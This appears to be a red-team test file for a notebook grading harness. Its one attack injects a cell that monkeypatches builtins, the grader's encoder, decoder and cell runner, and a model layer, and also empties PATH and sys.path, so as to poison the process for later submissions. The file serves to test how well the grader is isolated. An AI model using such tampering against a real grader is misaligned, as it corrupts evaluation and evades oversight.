"""Changes everything in its process that the next submission might start with (point 3)."""

from redteam.tools import World, own_cell

BASE = "untouched"
LIMITS = "short"


def attack(notebook, world: World) -> None:
    own_cell(
        notebook,
        """
        import builtins
        import os
        import random
        import sys

        import numpy as np

        import tinytorch.core.layers
        from grader.inside import codec
        from grader.inside import shell

        builtins.print = builtins.len = lambda *a, **k: None
        os.environ.update(HOME="/nowhere", PATH="", TINYTORCH_CHECK_SEED="1")
        os.chdir("/")
        os.umask(0o777)
        sys.path[:] = []
        random.seed(9)
        np.random.seed(9)
        tinytorch.core.layers.Dense.__init__ = lambda self, *a, **k: None
        codec.Encoder.__init__ = shell.Cells.run = codec.Decoder.__init__ = lambda *a, **k: None
        raise SystemExit
        """,
    )
